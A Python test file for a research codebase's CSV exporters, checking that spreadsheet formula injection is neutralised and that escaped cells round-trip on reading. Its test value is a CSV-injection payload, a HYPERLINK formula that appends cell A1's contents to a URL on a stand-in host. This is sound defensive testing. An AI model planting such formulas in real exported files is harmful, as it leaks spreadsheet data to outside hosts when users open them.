"""Texts from outside in our tables: no spreadsheet computes them; our readers get them back."""

import csv
import io
import math
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

from asvit.reference.result import Values
from asvit.reference.schema import format_table, read_sheet
from asvit.reference.table import Target
from asvit.report.pictures import Picture
from asvit.search.rows import TrialRow, read_trials, write_trials
from asvit.search.supernet_result import PathRow, read_paths, write_paths
from scaling.trajectory import Row, from_csv, to_csv

BAD = '=HYPERLINK("http://a.b/?"&A1)'


def check(text: str, *, times: int) -> None:
    """No cell below the comments is a formula; the bad text is there so often."""
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("#")]
    cells = [cell for row in csv.reader(lines) for cell in row]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "@")] == []
    assert cells.count(f"'{BAD}") == times
    assert "-1.5" in cells


def test_trials(tmp_path: Path) -> None:
    rows = [TrialRow(0, BAD, 1, 1, {BAD: -1.5}, -1.5, 0.0, "complete", BAD)]
    write_trials(tmp_path / "t.csv", rows, [BAD])
    check((tmp_path / "t.csv").read_text(), times=3)
    assert read_trials(tmp_path / "t.csv", [BAD]) == rows


def test_values() -> None:
    values = Values((BAD,), (32,), {BAD: (1.0,)}, {BAD: (-1.5,)}, (BAD,))
    check(values.to_csv(), times=3)  # accuracies have a word before their name
    assert Values.from_csv(values.to_csv()) == values


def test_a_reference_table(tmp_path: Path) -> None:
    columns = {"architecture": [BAD], "top1": [-1.5]}
    text = format_table({}, [Target("top1", "accuracy", "scratch")], columns)
    check(text, times=1)
    (tmp_path / "t.csv").write_text(text)
    assert read_sheet(tmp_path / "t.csv").rows[0].cells == {"architecture": BAD, "top1": "-1.5"}


def test_a_scaling() -> None:
    sizes = {"measured_width": 1, "params": 1, "macs": 1}
    row = Row(
        **{"step": 1, "kind": "width", "architecture": BAD, "depths": (1, 1), "width": 1},
        **sizes, values={BAD: -1.5}, rank_sum=None, chosen=True, reason=BAD,
    )  # fmt: skip
    check(to_csv([row]), times=3)
    assert from_csv(to_csv([row])) == [row]


def test_an_evolution() -> None:
    row = PathRow(0, 1, "random", BAD, "a", 1, -1.5)
    check(write_paths([row]), times=1)
    assert read_paths(write_paths([row])) == [row]


def test_figures() -> None:
    @dataclass
    class Shown:
        name: str
        value: float

    picture = SimpleNamespace(data=([Shown(BAD, -1.5), Shown("x", math.nan)], Shown))
    text = Picture.csv.fget(picture)  # type: ignore[attr-defined]
    check(text, times=1)
    assert next(csv.reader(io.StringIO(text))) == ["name", "value"]
